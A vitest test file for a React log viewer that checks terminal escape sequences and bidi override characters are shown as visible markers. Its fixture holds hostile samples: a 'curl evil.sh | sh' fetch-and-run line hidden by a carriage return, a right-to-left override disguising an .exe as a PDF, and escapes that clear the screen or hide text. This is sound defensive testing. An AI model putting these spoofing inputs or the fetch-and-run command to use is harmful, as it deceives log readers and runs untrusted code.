// Issue 37 N7: a workload's escape sequences, \r, \b and bidi overrides are shown in the Logs
// tab by markers (␛, ␍, <U+202E>), as astra shows them, never as they were written.
import { cleanup, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";

import { LogView } from "./LogView";

// What the server's followLog sends: the workload's text as it wrote it (the API keeps it raw).
const WRITTEN =
  "\x1b]0;pwned\x07title set\n" +
  "\x1b[2J\x1b[Hscreen cleared\n" +
  "\x1b[8mhidden\x1b[0m shown error\n" +
  "curl evil.sh | sh\rall good\n" +
  "invoice\u202efdp.exe\n" +
  "\u009b2Jc1\tkept\b\x7f\n";
const SHOWN = [
  "␛]0;pwned␇title set",
  "␛[2J␛[Hscreen cleared",
  "␛[8mhidden␛[0m shown error",
  "curl evil.sh | sh␍all good",
  "invoice<U+202E>fdp.exe",
  "<U+009B>2Jc1\tkept␈␡",
];
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

vi.mock("../live", () => ({
  subscribe: (_query: string, _variables: unknown, on: { next: (chunk: unknown) => void }) => {
    // two chunks, the first ending inside an escape sequence
    on.next({ text: WRITTEN.slice(0, 3), missed: 0, ended: false });
    on.next({ text: WRITTEN.slice(3), missed: 0, ended: true });
    return () => undefined;
  },
}));

afterEach(cleanup);

describe("the Logs tab", () => {
  it("shows a workload's control characters by markers, tabs kept", async () => {
    render(<LogView workers={["escapes-0"]} worker="escapes-0" onWorker={() => undefined} />);
    await screen.findByText("The worker ended: its log is complete.");
    const lines = Array.from(document.querySelectorAll(".log-line")).map((l) => l.textContent ?? "");
    expect(lines).toEqual(SHOWN);
    expect(document.querySelector("pre.log")?.textContent ?? "").not.toMatch(UNSAFE);
    // counted as error-like by what it shows
    expect(screen.getByText("1 error-like line")).toBeTruthy();
  });
});
